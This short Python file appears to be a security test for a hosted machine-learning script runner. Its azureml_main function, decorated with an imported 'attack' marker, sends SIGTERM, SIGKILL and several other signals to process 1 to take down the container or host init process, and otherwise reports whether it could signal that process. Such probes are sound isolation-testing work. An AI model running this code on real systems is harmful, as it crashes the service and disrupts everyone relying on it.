"""Ends the first process of all that it sees, with every signal that there is (not where it is the machine's)."""

import os
import signal

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    if os.getppid() != 1 or os.getpid() > 200:
        os.kill(1, 0)
        return "may send signals to the machine's first process"
    for number in (
        signal.SIGTERM,
        signal.SIGKILL,
        signal.SIGABRT,
        signal.SIGSEGV,
        signal.SIGHUP,
        signal.SIGUSR2,
        signal.SIGRTMIN,
    ):
        os.kill(1, number)
    return ""
